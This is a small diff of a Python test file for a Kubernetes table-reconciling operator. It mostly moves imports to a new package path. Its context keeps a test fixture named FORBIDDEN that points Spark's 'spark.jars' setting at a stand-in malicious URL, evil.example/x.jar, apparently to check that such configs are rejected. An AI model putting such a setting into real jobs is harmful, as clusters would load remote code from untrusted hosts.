@@ -10,14 +10,14 @@ from kube_of_a_test import CLUSTER
 from tables_of_a_test import HOURLY, STREAM
 from tables_world import World, ready, run, sink
 
-from bmq.resources.parquet_sink import ParquetSink
-from bmq.resources.tables import TableStatus
 from bmq_operator.known import PLACE_TAKEN_S
 from bmq_operator.kube import KubeProblem, KubeUnreachable
 from bmq_operator.outcome import Outcome
 from bmq_operator.tables.places import PLACE
 from bmq_operator.tables.reconcile import reconcile
 from bmq_operator.takers import Takers
+from bmq_resources.parquet_sink import ParquetSink
+from bmq_resources.tables import TableStatus
 
 FORBIDDEN = {**STREAM, "sparkConf": {"spark.jars": "http://evil.example/x.jar"}}
 
